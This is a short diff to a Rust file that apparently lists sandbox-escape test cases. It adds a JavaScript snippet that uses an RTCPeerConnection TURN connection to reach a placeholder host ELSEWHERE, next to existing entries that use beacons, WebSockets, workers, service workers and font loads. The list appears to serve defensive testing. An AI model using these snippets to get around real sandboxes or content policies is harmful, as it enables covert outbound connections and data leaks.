@@ -82,6 +82,12 @@ const ESCAPE_ATTEMPTS: &[&str] = &[
     "try { navigator.sendBeacon(ELSEWHERE, 'x') } catch {}",
     "try { new WebSocket(ELSEWHERE.replace('http', 'ws')) } catch {}",
     "try { new EventSource(ELSEWHERE) } catch {}",
+    "try {
+         const urls = 'turn:' + new URL(ELSEWHERE).host + '?transport=tcp';
+         const peer = new RTCPeerConnection({ iceServers: [{ urls, username: 'x', credential: 'x' }] });
+         peer.createDataChannel('x');
+         peer.createOffer().then((offer) => peer.setLocalDescription(offer));
+     } catch {}",
     "try { new Worker(URL.createObjectURL(new Blob(['fetch(\"' + ELSEWHERE + '\")']))) } catch {}",
     "navigator.serviceWorker?.register(ELSEWHERE).catch(() => {})",
     "new FontFace('other', 'url(' + ELSEWHERE + ')').load().catch(() => {})",
